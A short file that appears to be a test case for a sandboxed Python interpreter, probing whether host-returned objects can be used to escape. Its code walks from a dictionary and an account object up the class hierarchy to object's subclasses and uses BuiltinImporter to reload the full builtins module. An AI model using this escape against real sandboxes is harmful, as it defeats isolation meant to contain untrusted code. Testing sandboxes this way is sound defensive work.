# tries: the dictionary behind a result of the host
# class: host objects
# bare: python
r = echo({"a": [1]})
r["a"].append(2)
try: print(open_account().owner.__class__.__mro__[-1].__subclasses__()[0])
except Exception: pass
for c in r.__class__.__mro__[-1].__subclasses__():
    if c.__name__ == "BuiltinImporter": use(c.load_module("builtins"))
